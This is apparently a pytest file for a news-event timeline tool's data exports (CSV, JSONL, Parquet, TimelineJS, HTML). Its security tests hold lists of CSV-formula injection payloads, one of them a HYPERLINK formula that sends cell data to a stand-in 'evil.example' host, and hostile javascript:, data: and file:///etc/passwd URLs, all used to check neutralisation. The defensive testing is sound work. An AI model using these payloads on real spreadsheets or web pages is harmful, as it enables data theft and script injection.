"""Data exports are read back by independent readers (pandas, json, html.parser, pyarrow)."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from nkviewer.errors import ExportError
from nkviewer.events.record import ALL_FIELDS, Event
from nkviewer.events.table import events_to_frame
from nkviewer.export.cells import contract_typed
from nkviewer.export.data import format_for, timelinejs_document, write_events


def _event(i: int, start: str, end: str | None = None, **kw: object) -> Event:
    fields: dict = dict(
        event_id=f"ev{i:03d}",
        title=f"Event {i} — 김정은 met Putin",
        start=start,
        end=end or start,
        granularity="day" if end is None else "range",
        timex_value=start,
        time_text="Thursday",
        time_start=10 * i,
        time_end=10 * i + 8,
        sentence=f'Sentence {i} with "quotes", commas and a newline\nin it.',
        sentence_start=0,
        sentence_end=40,
        doc_id=f"doc{i % 2}",
        doc_path=f"/corpus/a{i % 2}.txt",
        doc_title="Article",
        doc_source="Outlet",
        doc_url="https://example.org/a" if i % 2 else "",
        doc_published="2019-03-18",
        doc_published_source="manifest",
        actors=["Kim Jong-un", "Vladimir Putin"],
        places=["Moscow"],
        lane="North Korea",
        entities=[
            {
                "text": "Putin",
                "label": "PERSON",
                "canonical": "Vladimir Putin",
                "start": 5,
                "end": 10,
            }
        ],
        modality="happened",
        sources=[{"doc_id": f"doc{i % 2}", "sentence_start": 0, "sentence_end": 40}],
    )
    fields.update(kw)
    return Event(**fields)


@pytest.fixture
def frame() -> pd.DataFrame:
    return events_to_frame(
        [
            _event(1, "2019-03-14"),
            _event(2, "2019-04-09", "2019-04-11"),
            _event(3, "2019-05-01", "2019-05-31", granularity="month", modality="expected"),
        ]
    )


def test_format_from_extension() -> None:
    assert format_for("a/b.timeline.json") == "timelinejs"
    assert format_for("x.JSONL") == "jsonl"
    assert format_for("x.json") == "json"
    assert format_for("x.csv") == "csv"
    assert format_for("x.png") is None


def test_csv_round_trips_through_pandas(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_events(frame, tmp_path / "events.csv")
    back = pd.read_csv(path, keep_default_na=False)
    assert list(back.columns) == list(ALL_FIELDS)
    assert list(back["event_id"]) == list(frame["event_id"])
    assert list(back["sentence"]) == list(frame["sentence"])  # quotes, commas, newline survive
    assert json.loads(back["actors"][0]) == ["Kim Jong-un", "Vladimir Putin"]
    assert back["title"][0].startswith("Event 1 — 김정은")


def test_jsonl_has_contract_fields(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_events(frame, tmp_path / "events.jsonl")
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 3
    assert list(rows[0]) == list(ALL_FIELDS)
    assert rows[1]["start"] == "2019-04-09" and rows[1]["end"] == "2019-04-11"
    assert rows[0]["entities"][0]["canonical"] == "Vladimir Putin"


def test_parquet_round_trips(frame: pd.DataFrame, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    path = write_events(frame, tmp_path / "events.parquet")
    table = pq.read_table(path)
    assert table.num_rows == 3
    assert table.column("actors").to_pylist()[0] == ["Kim Jong-un", "Vladimir Putin"]


def test_timelinejs_structure(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_events(frame, tmp_path / "t.timeline.json", title="NK diplomacy")
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["title"]["text"]["headline"] == "NK diplomacy"
    events = doc["events"]
    assert len(events) == 3
    for ev in events:
        assert isinstance(ev["start_date"]["year"], int)
        assert set(ev["text"]) == {"headline", "text"}
        assert ev["group"] == "North Korea"
    day, rng, month = events
    assert day["start_date"] == {"year": 2019, "month": 3, "day": 14}
    assert "end_date" not in day
    assert rng["end_date"] == {"year": 2019, "month": 4, "day": 11}
    assert month["start_date"] == {"year": 2019, "month": 5}
    assert "&quot;quotes&quot;" in day["text"]["text"]  # sentence is escaped HTML


def test_timelinejs_document_empty_has_events_list(frame: pd.DataFrame) -> None:
    assert timelinejs_document(frame.iloc[0:0])["events"] == []


def test_html_report_lists_events_with_links(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_events(frame, tmp_path / "report.html", title="Report")

    class Collect(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.links: list[str] = []
            self.articles = 0
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "a":
                self.links.append(dict(attrs).get("href") or "")
            if tag == "article":
                self.articles += 1

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    parser = Collect()
    parser.feed(path.read_text(encoding="utf-8"))
    assert parser.articles == 3
    assert "https://example.org/a" in parser.links
    # Only http(s) becomes a link: an article without an address is named, not linked to
    # its file (issue 12, point 6).
    assert parser.links == ["https://example.org/a"] * parser.links.count("https://example.org/a")
    body = "".join(parser.text)
    assert "3 events from 2 articles" in body
    assert "2019-04-09 – 2019-04-11" in body


def test_zero_events_is_refused_without_a_file(frame: pd.DataFrame, tmp_path: Path) -> None:
    target = tmp_path / "none.csv"
    with pytest.raises(ExportError, match="no events"):
        write_events(frame.iloc[0:0], target)
    assert not target.exists()


def test_unwritable_path_leaves_no_partial_file(frame: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="does not exist"):
        write_events(frame, tmp_path / "missing" / "e.csv")
    plain_file = tmp_path / "file.txt"
    plain_file.write_text("x", encoding="utf-8")
    with pytest.raises(ExportError, match="not a folder"):
        write_events(frame, plain_file / "e.csv")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        # As root, permissions are not enforced; a sysfs folder refuses new files for anyone.
        target_dir = locked if os.access(locked, os.W_OK) is False else Path("/sys/kernel")
        if not target_dir.is_dir():
            pytest.skip("no unwritable folder available on this system")
        with pytest.raises(ExportError, match="cannot write"):
            write_events(frame, target_dir / "e.csv")
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o700)


def test_failure_midway_keeps_previous_file(frame: pd.DataFrame, tmp_path: Path) -> None:
    target = tmp_path / "e.jsonl"
    target.write_text("old\n", encoding="utf-8")
    bad = frame.copy()
    bad["title"] = bad["title"].astype(object)
    bad.loc[0, "title"] = object()  # not JSON-serialisable: the writer fails midway
    with pytest.raises(TypeError):
        write_events(bad, target)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["e.jsonl"]


# --- corpus content is data: no formulas, no links but http(s) (issue 12, points 6 and 7) ---

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("streamed", [False, True])
def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path: Path, streamed: bool) -> None:
    events = [
        _event(i, "2019-03-14", title=text, doc_source="-12.5", time_text="+3")
        for i, text in enumerate([*FORMULAS, "Kim met Putin"])
    ]
    frame = events_to_frame(events)
    path = tmp_path / "events.csv"
    if streamed:
        from nkviewer.export.stream import write_event_stream

        write_event_stream([frame], path)
    else:
        write_events(frame, path)
    rows = _csv_cells(path)
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted(["'" + f for f in FORMULAS] + ["Kim met Putin"])
    assert {r["doc_source"] for r in rows} == {"-12.5"}  # a negative number stays a number
    assert {r["time_text"] for r in rows} == {"+3"}
    assert all(r["actors"].startswith("[") for r in rows)


HOSTILE_URLS = [
    "javascript:alert(document.domain)",
    " JavaScript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "https:/no-host",
    "java\nscript:alert(1)",
]


def test_only_http_addresses_become_links_in_reports_and_timelines(tmp_path: Path) -> None:
    events = [
        _event(i, "2019-03-14", doc_id=f"d{i}", doc_url=url)
        for i, url in enumerate([*HOSTILE_URLS, "https://example.org/ok"])
    ]
    frame = events_to_frame(events)

    class Links(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.hrefs: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "a":
                self.hrefs.append(dict(attrs).get("href") or "")

    report = Links()
    report.feed(write_events(frame, tmp_path / "r.html").read_text(encoding="utf-8"))
    assert report.hrefs == ["https://example.org/ok"]
    timeline = Links()
    for ev in timelinejs_document(frame)["events"]:
        timeline.feed(ev["text"]["text"])
    assert timeline.hrefs == ["https://example.org/ok"]


@pytest.mark.parametrize(
    ("address", "link"),
    [
        ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"),
        ("  http://example.org  ", "http://example.org"),
        ("HTTPS://EXAMPLE.ORG", "HTTPS://EXAMPLE.ORG"),
        *[(u, None) for u in HOSTILE_URLS],
        ("//example.org/x", None),
        ("example.org", None),
        ("", None),
        (None, None),
    ],
)
def test_http_url(address: str | None, link: str | None) -> None:
    from nkviewer.ingest.links import http_url

    assert http_url(address) == link


def test_reporters_travel_with_every_export(tmp_path: Path) -> None:
    frame = events_to_frame([_event(1, "2019-04-25", reported_by=["Yonhap", "<b>KCNA</b>"])])
    lines = write_events(frame, tmp_path / "e.jsonl").read_text(encoding="utf-8").splitlines()
    (row,) = (json.loads(x) for x in lines if x)
    assert row["reported_by"] == ["Yonhap", "<b>KCNA</b>"]
    with (write_events(frame, tmp_path / "e.csv")).open(newline="", encoding="utf-8") as fh:
        (cell,) = [r["reported_by"] for r in csv.DictReader(fh)]
    assert json.loads(cell) == ["Yonhap", "<b>KCNA</b>"]
    report = write_events(frame, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "according to Yonhap, &lt;b&gt;KCNA&lt;/b&gt;" in report  # shown as text, escaped
    tl = json.loads(write_events(frame, tmp_path / "t.timeline.json").read_text(encoding="utf-8"))
    assert "according to Yonhap" in tl["events"][0]["text"]["text"]


@pytest.mark.parametrize("batch", [1, 2, 3, 5000])
def test_records_are_made_a_batch_at_a_time_and_files_do_not_change(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, batch: int
) -> None:
    """The writers encode `RECORD_BATCH` rows at a time (a whole 10^5-event table as records
    at once was 75 MB of small objects); the files are those of all the records at once."""
    from nkviewer.export import data

    whole = data.records(frame)
    monkeypatch.setattr(data, "RECORD_BATCH", batch)
    made: list[int] = []
    real = data.frame_batches

    def counted(whole_frame: pd.DataFrame) -> Iterator[pd.DataFrame]:
        for part in real(whole_frame):
            made.append(len(part))
            yield part

    monkeypatch.setattr(data, "frame_batches", counted)
    as_json = write_events(frame, tmp_path / "e.json").read_text(encoding="utf-8")
    assert as_json == json.dumps(whole, ensure_ascii=False, indent=1) + "\n"
    as_jsonl = write_events(frame, tmp_path / "e.jsonl").read_text(encoding="utf-8")
    assert as_jsonl.splitlines() == [json.dumps(r, ensure_ascii=False) for r in whole]
    with write_events(frame, tmp_path / "e.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["event_id"] for r in rows] == list(frame["event_id"])
    assert [json.loads(r["actors"]) for r in rows] == [r["actors"] for r in whole]
    import pyarrow as pa
    import pyarrow.parquet as pq

    as_parquet = pq.read_table(write_events(frame, tmp_path / "e.parquet"))
    assert as_parquet.equals(contract_typed(pa.Table.from_pylist(whole)))
    assert made and max(made) <= batch


def test_parquet_in_batches_types_every_record_as_one_inference(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Batches whose records differ in what they hold (a field empty in the first ones, a
    key of a record's entities only in the last) make the table all the records make at once."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from bench.synthetic import synthetic_frame
    from nkviewer.export import data

    frame = synthetic_frame(60, years=1, seed=5)
    entities = list(frame["entities"])
    entities[-1] = [{"text": "Kim", "label": "PERSON", "wikidata": "Q1"}]
    urls = [None] * 50 + list(frame["doc_url"][50:])
    frame = frame.assign(entities=entities, doc_url=pd.Series(urls, dtype=object))
    whole = contract_typed(pa.Table.from_pylist(data.records(frame)))
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    written = pq.read_table(write_events(frame, tmp_path / "e.parquet"))
    assert written.schema.equals(whole.schema)
    assert written.equals(whole)
